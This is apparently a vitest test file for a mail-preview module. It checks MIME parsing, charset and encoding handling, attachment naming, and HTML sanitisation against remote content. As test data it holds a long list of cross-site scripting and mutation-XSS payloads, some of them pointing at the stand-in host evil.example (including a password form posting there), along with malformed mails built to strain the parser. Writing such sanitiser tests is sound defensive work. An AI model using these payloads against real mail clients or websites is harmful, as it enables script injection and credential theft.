import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type MailPreview, PREVIEW_BYTES_MAX, previewMail } from '../../src/mail/mail-preview.ts';

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const show = (mail: string | Uint8Array, sizeBytes?: number): MailPreview => {
  const bytes = typeof mail === 'string' ? Buffer.from(mail) : mail;
  return previewMail(bytes, sizeBytes ?? bytes.length);
};
const page = (html: string) => show(`Content-Type: text/html; charset=utf-8\r\n\r\n${html}`);
const htmlOf = (html: string) => page(html).html ?? '';
const multipart = (type: string, ...parts: readonly string[]) =>
  `Content-Type: multipart/${type}; boundary="b"\n\npreamble\n--b\n${parts.join('\n--b\n')}\n--b--\nepilogue\n`;
const HTML = 'Content-Type: text/html\n\n';
/** A mail of `PREVIEW_BYTES_MAX` bytes, most of them the same again and again. */
const fill = (start: string, unit: string) => {
  const bytes = Buffer.alloc(PREVIEW_BYTES_MAX, unit, 'latin1');
  bytes.write(start, 'latin1');
  return bytes;
};

/** What a browser could do something with, by a reading of HTML that is stricter than any browser's. */
function offencesOf(html: string): string[] {
  const tags = html.split(/(<[^<>]*>)/).filter((_, index) => index % 2 === 1);
  const texts = html.split(/<[^<>]*>/);
  return [
    ...texts.filter((text) => /[<>]/.test(text)),
    ...tags.filter((tag) => !/^<\/[a-z][a-z0-9]*>$/.test(tag) && !OPENING.test(tag)),
    ...tags.filter((tag) => !TAGS.has(/^<\/?([a-z0-9]+)/.exec(tag)?.[1] ?? '')),
  ];
}
const PROPERTY =
  '(?:color|background-color):(?:#[0-9a-f]{3,8}|[a-z]+|rgb\\([0-9, ]+\\))|(?:width|height|font-size|font-weight):[0-9a-z.%-]+|(?:text-align|text-decoration|font-style):[a-z-]+';
const OPENING = new RegExp(
  `^<[a-z][a-z0-9]*(?: (?:(?:title|alt)="[^"]*"|(?:colspan|rowspan)="[0-9]{1,2}"` +
    `|src="data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+"` +
    `|style="(?:${PROPERTY})(?:;(?:${PROPERTY}))*"))*(?: /)?>$`,
);
const TAGS = new Set(
  (
    'a abbr b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em ' +
    'h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup ' +
    'table tbody td tfoot th thead tr tt u ul var wbr'
  ).split(' '),
);

describe('previewMail', () => {
  it('shows a plain message', () => {
    expect(show('From x\nSubject: =?utf-8?Q?Gr=C3=BC=C3=9Fe?=\r\nX-A: b\r\n\r\nHi\r\nyou')).toEqual(
      {
        headers: [
          { name: 'Subject', value: 'Grüße' },
          { name: 'X-A', value: 'b' },
        ],
        text: 'Hi\nyou',
        html: null,
        attachments: [],
        remote_content: false,
        is_truncated: false,
        problem: null,
      },
    );
  });

  it('shows both forms of a message and names what is attached', () => {
    const mail = multipart(
      'mixed',
      'Content-Type: multipart/alternative; boundary=c\n\n--c\n\nplain\n--c\n' +
        'Content-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<b>b=\nold=21</b>\n--c--',
      'Content-Type: Application/PDF; name="a.pdf"\nContent-Transfer-Encoding: base64\n\nSGVs\nbG8=',
      'Content-Disposition: attachment; filename=b.txt\n\nnot shown',
    );
    expect(show(mail)).toMatchObject({
      text: 'plain',
      html: '<b>bold!</b>',
      attachments: [
        {
          filename: 'a.pdf',
          content_type: 'application/pdf',
          size_bytes: 5,
          disposition: null,
          is_truncated: false,
        },
        { filename: 'b.txt', content_type: 'text/plain', size_bytes: 9, disposition: 'attachment' },
      ],
      is_truncated: false,
      problem: null,
    });
  });

  it.each([
    ['utf-8', 'Gr\xc3\xbc\xc3\x9fe', 'Grüße'],
    ['iso-8859-1', 'Gr\xfc\xdfe \x93x\x94', 'Grüße “x”'],
    ['windows-1251', '\xcf\xf0\xe8', 'При'],
    ['shift_jis', '\x93\xfa\x96\x7b', '日本'],
    ['"utf-16be"', '\0H\0i', 'Hi'],
    ['no-such-charset', 'Gr\xfc\xdfe', 'Grüße'],
    ['us-ascii', 'Gr\xc3\xbc\xc3\x9fe', 'Grüße'],
    ['us-ascii (plain)', 'a', 'a'],
    ['utf-8', 'Gr\xfc', 'Gr\ufffd'],
    ['x-user-defined', 'a\0b\x1b', 'a\ufffdb\ufffd'],
  ])('reads text in %s', (charset, body, text) => {
    const mail = latin1(`Content-Type: text/plain; charset=${charset}\n\n${body}`);
    expect(show(mail).text).toBe(text);
  });

  it.each([
    ['base64', 'SGVs*bG8\n=\n', 'Hello'],
    ['base64', 'SGk=\nSGk=\n', 'HiHi'],
    ['BASE64 (so it says)', 'SGk', 'Hi'],
    ['quoted-printable', 'a=3D=3d=\r\nb= \t\nc=\rd=ZZ=4', 'a==bcd=ZZ=4'],
    ['7bit', 'a=3D\fb\r\rc', 'a=3D\nb\n\nc'],
    ['x-unheard-of', 'a=3D', 'a=3D'],
  ])('unpacks %s', (encoding, body, text) => {
    const mail = `Content-Transfer-Encoding: ${encoding}\n\n${body}`;
    expect(show(mail).text?.trimEnd()).toBe(text);
  });

  it.each([
    ['filename="=?utf-8?B?w6QucGRm?="', 'ä.pdf'],
    ["filename*=utf-8'de'%C3%A4.pdf", 'ä.pdf'],
    ["filename*0*=utf-8''%C3; filename*1*=%A4; filename*2=.pdf", 'ä.pdf'],
    ["filename*=no-such''%E4.pdf", 'ä.pdf'],
    ['filename="a \\"b\\".pdf"', 'a "b".pdf'],
    ['filename=a b.pdf', 'a b.pdf'],
    ['filename="invoice\u202efdp.exe"', 'invoice\ufffdfdp.exe'],
    ["filename*=utf-8''a%0D%0AX:%20b%00", 'a X: b\ufffd'],
    ['filename=first; filename=second', 'first'],
    [`filename="${'a'.repeat(300)}"`, 'a'.repeat(255)],
    ['x', null],
  ])('names an attachment by %s', (parameter, filename) => {
    const mail = `Content-Type: image/png\nContent-Disposition: attachment; ${parameter}\n\nx`;
    expect(show(mail).attachments[0]?.filename).toBe(filename);
  });

  it('counts what an attachment holds without unpacking it further', () => {
    const zip = Buffer.alloc(30_000, 'PK\u0003\u0004')
      .toString('base64')
      .replace(/.{76}/g, '$&\r\n');
    const mail = multipart(
      'mixed',
      `Content-Type: application/zip\nContent-Transfer-Encoding: base64\n\n${zip}`,
    );
    expect(show(mail).attachments).toMatchObject([{ size_bytes: 30_000 }]);
  });

  it('shows what an attached message says and holds, but not one that says it is an attachment', () => {
    const inner = multipart('mixed', '\ninner text', 'Content-Type: image/png\n\nx')
      .replaceAll('"b"', 'c')
      .replaceAll('--b', '--c');
    const forwarded = show(
      multipart('mixed', '\nouter', `Content-Type: message/rfc822\n\nSubject: x\n${inner}`),
    );
    expect(forwarded).toMatchObject({
      headers: [{ name: 'Content-Type' }],
      text: 'outer\ninner text',
      attachments: [{ content_type: 'image/png' }],
    });
    const kept = `Content-Type: message/rfc822\nContent-Disposition: attachment\n\nSubject: x\n${inner}`;
    expect(show(multipart('mixed', '\nouter', kept))).toMatchObject({
      text: 'outer',
      attachments: [{ content_type: 'message/rfc822' }],
    });
  });

  it('shows text that has a file name, and names it', () => {
    const mail = 'Content-Type: text/plain; name=a.patch\n\n+a';
    expect(show(mail)).toMatchObject({ text: '+a', attachments: [{ filename: 'a.patch' }] });
  });

  it('looks ten messages deep', () => {
    const nested = (depth: number) =>
      `${'Content-Type: message/rfc822\n\n'.repeat(depth)}A: b\n\nhi`;
    expect(show(nested(10))).toMatchObject({ text: 'hi', attachments: [] });
    expect(show(nested(11))).toMatchObject({
      text: null,
      attachments: [{ content_type: 'message/rfc822' }],
    });
    expect(show(nested(50_000)).problem).toBeNull();
  });

  const nest = (depth: number) =>
    Array.from(
      { length: depth },
      (_, n) => `Content-Type: multipart/mixed; boundary=b${n}-\n\n--b${n}-\n`,
    ).join('');

  it('takes 256 parts within parts, and shows more as they are', () => {
    expect(show(`${nest(256)}\ndeep`)).toMatchObject({ text: 'deep', problem: null });
    const deeper = show(`Subject: x\n${nest(500)}\ndeep`);
    expect(deeper).toMatchObject({ html: null, attachments: [], problem: 'too_deeply_nested' });
    expect(deeper.headers[0]).toEqual({ name: 'Subject', value: 'x' });
    expect(deeper.text).toContain('--b0-\nContent-Type: multipart/mixed');
  });

  it.each([
    ['no boundary', 'Content-Type: multipart/mixed\n\nbody', 'body'],
    ['an empty boundary', 'Content-Type: multipart/mixed; boundary=""\n\nbody', 'body'],
    ['another boundary', 'Content-Type: multipart/a; boundary=a\n\n--b\n\nbody', '--b\n\nbody'],
    ['a boundary too long', `Content-Type: multipart/a; boundary=${'a'.repeat(201)}\n\nx`, 'x'],
    ['no end of its header', 'Content-Type: multipart/mixed; boundary=a', null],
    ['no header', 'body\n\nmore', 'body\n\nmore'],
    ['only a NUL', '\0', '\ufffd'],
    ['nothing', '', null],
  ])('shows as it is a message that has %s', (_, mail, text) => {
    expect(show(mail)).toMatchObject({ problem: 'unparsable', html: null, text });
  });

  it.each([
    ['is not closed', '--b\n\none\n--b\n\ntwo', 'one\ntwo'],
    ['follows no blank line', '--b\nContent-Type: text/html\n--b\n\ntwo\n--b--', 'two'],
    [
      'is that of the part around',
      '--b\nContent-Type: multipart/mixed; boundary=c\n\n--c\n\none\n--b\n\ntwo\n--c\n--b--',
      'one\ntwo\n--c',
    ],
    [
      'begins a message in a digest',
      '--b\nContent-Type: multipart/digest; boundary=c\n\n--c\n\nSubject: x\n\none\n--c--\n--b--',
      'one',
    ],
    ['has blanks behind it', '--b \t\n\none\n--b-- \n', 'one'],
    ['only begins another line', '--bb\n--b\n\none\n--bx\n--b--', 'one\n--bx'],
    [
      'is that of a part, again',
      '--b\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\none\n--b--',
      'one',
    ],
  ])('finds parts whose delimiter %s', (_, body, text) => {
    const mail = `Content-Type: multipart/mixed; boundary=b\n\n${body}`;
    for (const end of ['\n', '\r\n', '\r']) {
      expect(show(mail.replaceAll('\n', end)).text).toBe(text);
    }
  });

  it('says what it left out', () => {
    const many = 'X-A: b\n'.repeat(201);
    expect(show(`${many}\nx`)).toMatchObject({ is_truncated: true, text: 'x' });
    expect(show(`${many}\nx`).headers).toHaveLength(200);
    const long = show(`X: ${'a'.repeat(3_000)}\n\n${'ä'.repeat(262_145)}`);
    expect(long.headers[0]?.value).toHaveLength(2_000);
    expect(long.text).toHaveLength(262_144);
    expect(long.is_truncated).toBe(true);
    expect(show(`X: y\n\n${'ä'.repeat(262_144)}`).is_truncated).toBe(false);
    expect(show(`X: ${'a'.repeat(262_144)}\n\nx`).is_truncated).toBe(true);
    const shifts = '\x1b$B%"\x1b(B'.repeat(270_000);
    const short = show(`Content-Type: text/html; charset=iso-2022-jp\n\n${shifts}`);
    expect(short.html?.length).toBeLessThan(524_288);
    expect(short.is_truncated).toBe(true);
    const files = multipart(
      'mixed',
      ...Array.from({ length: 101 }, () => 'Content-Type: a/b\n\nx'),
    );
    expect(show(files).attachments).toHaveLength(100);
    expect(show(files).is_truncated).toBe(true);
    const raw = show(`Content-Type: multipart/a\n\n${'😀'.repeat(20_000)}`);
    expect(raw).toMatchObject({ is_truncated: true, text: '😀'.repeat(16_384) });
  });

  it('says what was not there to be read', () => {
    const cut = multipart(
      'mixed',
      '\na',
      'Content-Type: a/b\n\nx',
      'Content-Type: c/d\n\nxyz',
    ).slice(0, -18);
    expect(show(cut, 10_000_000).attachments.map((one) => one.is_truncated)).toEqual([false, true]);
    expect(show(cut, 10_000_000).is_truncated).toBe(true);
    expect(show(cut).attachments.map((one) => one.is_truncated)).toEqual([false, false]);
    const end = 'Content-Type: c/d\n\nbeyond';
    const bytes = Buffer.concat([fill('A: b\n\n', 'a'), Buffer.from(end)]);
    expect(show(bytes).is_truncated).toBe(true);
  });
});

describe('HTML in a preview', () => {
  it('keeps its text, its tables and its looks', () => {
    const html =
      '<h1 style="COLOR: Red; text-align:center">Hi</h1><table><tr>' +
      '<td colspan="2" rowspan="100" style="width:50%;background-color:rgb(1, 2, 3)">a &amp; b</td>' +
      '</tr></table><p>1 &lt; 2<br>“x”</p>';
    const whole = `<html><head><title>t</title></head><body class=a>${html}</body></html>`;
    expect(htmlOf(whole)).toBe(
      '<h1 style="color:red;text-align:center">Hi</h1><table><tr>' +
        '<td colspan="2" style="width:50%;background-color:rgb(1, 2, 3)">a &amp; b</td>' +
        '</tr></table><p>1 &lt; 2<br />“x”</p>',
    );
  });

  it('shows where a link led, and leads nowhere', () => {
    expect(htmlOf('<a href="https://bank.example/?a=1&amp;b" title="safe" target=_top>x</a>')).toBe(
      '<a title="https://bank.example/?a=1&amp;b">x</a>',
    );
    expect(htmlOf('<a name=x>y</a>')).toBe('<a>y</a>');
  });

  it('keeps pictures that it brings along, up to a size, and no others', () => {
    const src = `data:image/png;base64,${'A'.repeat(1_000)}`;
    expect(htmlOf(`<img src="${src}" alt=x width=1>`)).toBe(`<img alt="x" src="${src}" />`);
    for (const other of [
      `data:image/png;base64,${'A'.repeat(262_144)}`,
      'data:image/svg+xml;base64,AAAA',
      'data:text/html;base64,AAAA',
      'data:image/png,AAAA',
      'cid:x@y',
      'x.png',
      'https://example.org/x.png',
    ]) {
      expect(htmlOf(`<img src="${other}">`)).toBe('<img alt="" />');
    }
  });

  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT >',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/src="data:,alert(1)">',
    '<<script>alert(1)//<</script>',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror="alert(1)">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    '<img src=x:x onerror\u0000=alert(1)>',
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    '<body onload=alert(1)>',
    '<p onclick=alert(1) ONMOUSEOVER=alert(1) on<x=1>x</p>',
    '<p/onclick=alert(1)//x>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    '<a href=" \u0001 JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href=\'x" onclick="alert(1)\'>x</a>',
    '<a href="x&quot; onclick=&quot;alert(1)">x</a>',
    '<a title="&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<img alt="</p><script>alert(1)</script>" src=x>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<object data="data:text/html,x"></object><embed src=x><applet code=x>',
    '<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<select><option><img src=x onerror=alert(1)></option></select>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<base href=//evil.example/>',
    '<style>@import "//evil.example/x.css";</style>',
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    '<p style="background:url(//evil.example/x)">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="color:red;background-image:u\\72l(//evil.example)">x</p>',
    '<p style="color:rgb(0,0,0);-moz-binding:url(//evil.example#x)">x</p>',
    '<p style="color:red}*{background:url(//evil.example)">x</p>',
    '<p style="color:rgb(expression(alert(1)), 0, 0)">x</p>',
    '<p style="position:fixed;top:0;z-index:9;width:100%">x</p>',
    '<p style="color:/**/red;width:calc(1px);color:var(--x);font-size:attr(x)">x</p>',
    '<p style=\'color:red"onclick="alert(1)\'>x</p>',
    '<table background=//evil.example/x><td background=//evil.example/x>x</table>',
    '<video poster=//evil.example/x><source src=//evil.example/x></video><audio src=//evil.example autoplay>',
    '<img srcset="//evil.example/x 1x, //evil.example/y 2x" src="data:image/png;base64,AA==">',
    '<picture><source srcset=//evil.example/x><img src=//evil.example/x></picture>',
    '<svg onload=alert(1)><script>alert(1)</script><image href=//evil.example /></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><animate onbegin=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
    '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
    '<xmp><a title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>">',
    '<plaintext><img src=x onerror=alert(1)>',
    '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
    '<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if mso]><img src=//evil.example/x><![endif]--><!--[if !mso]><!--><p>x</p><!--<![endif]-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<?xml version="1.0"?><?php <img src=x onerror=alert(1)> ?>',
    '<!doctype html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;',
    '&lt;img src=x onerror=alert(1)&gt;&amp;lt;script&amp;gt;',
    '&#60;script&#62;alert(1)&#x3c;/script&#x3e;&LT;b&GT;',
    '<p id=x name=y class=z data-x=1 slot=s is=x contenteditable tabindex=1 accesskey=x>x</p>',
    '<div><a href=x><img src=x></div></a></td></tr></b><p></br>',
    '<x-custom onclick=alert(1)><marquee onstart=alert(1)><details ontoggle=alert(1) open>x</details>',
    '<img src="data:image/png;base64,AA\u0000==" alt=\u0000>',
    '<p title=\ud800 style=color:red\ud800>\ud800</p>',
    '<a href="https://x.example/" style="color:red" <b>y',
    '<a href=\u2028x\u2029 __proto__=x constructor=y>z</a>',
    '<p style="color:red',
    '<',
    '<img',
    '<a href="',
  ])('leaves nothing live of %j', (payload) => {
    for (const html of [payload, `<p>a</p>${payload}<p>b</p>`, `<table><tr><td>${payload}`]) {
      expect(offencesOf(htmlOf(html))).toEqual([]);
    }
  });

  it('would notice what is live', () => {
    for (const live of [
      '<script>',
      '<img src="x">',
      '<img src="data:text/html;base64,AA==">',
      '<p onclick="x">',
      '<a href="x">',
      '<p style="background:url(x)">',
      '<p style="color:red;position:fixed">',
      '<p title="a" title=b>',
      '<p title="<b>">',
      '<svg>',
      'a < b',
    ]) {
      expect(offencesOf(`<b>${live}</b>`)).not.toEqual([]);
    }
  });

  it.each([
    '<img src="http://x.example/a.png">',
    '<img src="//x.example/a.png">',
    '<img src="ht\ntps://x.example/a.png">',
    '<img src=" \\\\x.example\\a">',
    '<img srcset="a.png 1x, https://x.example/b.png 2x">',
    '<img srcset="data:image/png;base64,AA== 1x, https://x.example/b.png 2x">',
    '<td background="https://x.example/a.png">',
    '<p style="background: url(\'https://x.example/a.png\')">',
    '<style>p { background: url( //x.example/a.png ) }</style>',
    '<style>@import "https://x.example/a.css";</style>',
    '<link rel=stylesheet href="https://x.example/a.css">',
    '<video poster="https://x.example/a.png"></video>',
    '<svg><image xlink:href="https://x.example/a.png"/></svg>',
    '<object data="https://x.example/a"></object>',
    '<meta http-equiv="refresh" content="0; url=https://x.example/">',
    '<base href="https://x.example/"><img src=a.png>',
  ])('is remote with %j', (html) => {
    expect(page(html).remote_content).toBe(true);
  });

  it.each([
    '<a href="https://x.example/">https://x.example/</a>',
    '<img src="cid:a//b"><img src="data:image/png;base64,//8=">',
    '<img src="a.png"><p style="color:red">x</p>',
    '<meta charset=utf-8><meta name=x content="https://x.example/">',
    '<!-- <img src="https://x.example/a.png"> -->',
    '<p xmlns:o="https://x.example/" title="https://x.example/">x</p>',
  ])('is not remote with %j', (html) => {
    expect(page(html).remote_content).toBe(false);
  });

  it('can be stored, also what it writes as character references', () => {
    expect(htmlOf('a&#0;b&#1;c&#x80;d&#xd800;e')).toBe('a\ufffdb\ufffdc€d\ufffde');
  });

  it('is cleaned page by page, so that one cannot swallow the next', () => {
    const pages = multipart('mixed', `${HTML}<p>a<!--`, `${HTML}<b>c</b>`);
    expect(show(pages).html).toBe('<p>a</p>\n<b>c</b>');
  });

  it('is bounded in length, in tags and in depth', () => {
    expect(page('a'.repeat(524_289))).toMatchObject({ is_truncated: true });
    expect(page('a'.repeat(524_288))).toMatchObject({ is_truncated: false });
    const halves = multipart('mixed', HTML + 'a'.repeat(300_000), HTML + 'b'.repeat(300_000));
    expect(show(halves).html).toHaveLength(524_289);
    const tags = page('<b></b>'.repeat(10_001));
    expect(tags.html).toBe('<b></b>'.repeat(10_000));
    expect(tags.is_truncated).toBe(true);
    const twice = multipart('mixed', HTML + '<br>'.repeat(15_000), HTML + '<br>'.repeat(15_000));
    expect(show(twice).html?.split('<br />')).toHaveLength(20_001);
    const deep = htmlOf(`${'<div>'.repeat(10_000)}x`);
    expect(deep).toBe(`${'<div>'.repeat(256)}x${'</div>'.repeat(256)}`);
  });
});

describe('a mail made to hurt', () => {
  const parts = 'Content-Type: multipart/mixed; boundary=b\n\n';
  it.each([
    ['lines', fill('A: b\n\n', '\n')],
    ['lone CRs', fill('A: b\r\r', '\r')],
    ['control characters', fill('A: b\n\n', '\x01\x80')],
    ['header fields', fill('', 'A: b\n')],
    ['folds', fill('Subject: a', ' \n')],
    ['one header field', fill('Subject: ', '=?a?B?AAAA?= ')],
    ['empty parts', fill(parts, '--b\n')],
    ['parts without a blank line', fill(parts, '--b\nA: b\nA: b\n')],
    ['HTML parts', fill(parts, `--b\n${HTML}<b><b><b><b>\n`)],
    ['near delimiters', fill(`${parts}--b\n\n`, '\n--bb--')],
    ['dashes', fill(parts, '\n--')],
    ['parameters', fill(parts, `--b\nContent-Type: a/b${';a="'.repeat(1_000)}\n\n`)],
    ['padding', fill('Content-Transfer-Encoding: base64\n\n', '=A')],
    ['equals signs', fill('Content-Transfer-Encoding: quoted-printable\n\n', '= ')],
    ['openings', fill(HTML, '<b>')],
    ['openings and wrong closings', fill(HTML, '<b></i>')],
    ['tables in tables', fill(HTML, '<table><tr><td>')],
    ['attributes', fill(`${HTML}<p `, 'a b=c ')],
    ['entities', fill(HTML, '&notit;&#x41')],
    ['comments', fill(HTML, '<!--')],
    ['UTF-16', fill('Content-Type: text/html; charset=utf-16\n\n', '\xd8<')],
  ])('full of %s is answered', (_, bytes) => {
    const preview = show(bytes);
    expect(offencesOf(preview.html ?? '')).toEqual([]);
    expect(preview.headers.length).toBeGreaterThan(0);
  });

  it('is answered whatever its bytes, with text that can be stored and HTML that is dead', () => {
    const piece = fc.oneof(
      fc.uint8Array({ maxLength: 30 }).map((bytes) => Buffer.from(bytes).toString('latin1')),
      fc.constantFrom(
        ...['\r\n', '\n\n', '\r', '--b', '--b--', '--c\n', '=?utf-8?Q?=00', '?=', '=', '=0', '\0'],
        ...[
          'Content-Type: multipart/mixed; boundary=b\n\n',
          'Content-Type: multipart/digest;boundary=c\n\n',
        ],
        ...[HTML, 'Content-Type: message/rfc822\n\n', 'Content-Transfer-Encoding: base64\n'],
        ...[
          'Content-Disposition: attachment; filename*0*=',
          "utf-16''%d8%00",
          '; charset=',
          'utf-16\n',
        ],
        ...[
          '<script>',
          '</script>',
          '<img src=',
          '<style>',
          '<svg>',
          '"',
          "'",
          '<!--',
          '-->',
          '<a href=',
        ],
        ...[
          ' onerror=x',
          '>',
          '&lt;',
          '&#xd800;',
          '&#0;',
          '<table>',
          '<p style="',
          'color:red',
          '//x.y',
        ],
      ),
    );
    const mail = fc.tuple(
      fc.constantFrom('', 'A: b\n', HTML, parts, `${parts}--b\n${HTML}`),
      fc.array(piece, { maxLength: 30 }),
    );
    fc.assert(
      fc.property(mail, fc.boolean(), ([start, pieces], isOpen) => {
        const bytes = latin1(start + pieces.join(''));
        const preview = show(bytes, bytes.length + (isOpen ? 1 : 0));
        expect(offencesOf(preview.html ?? '')).toEqual([]);
        expect(JSON.stringify(preview)).not.toMatch(/\\u(?:00[01]|d[89a-f])/);
        expect(preview.is_truncated || !isOpen).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});
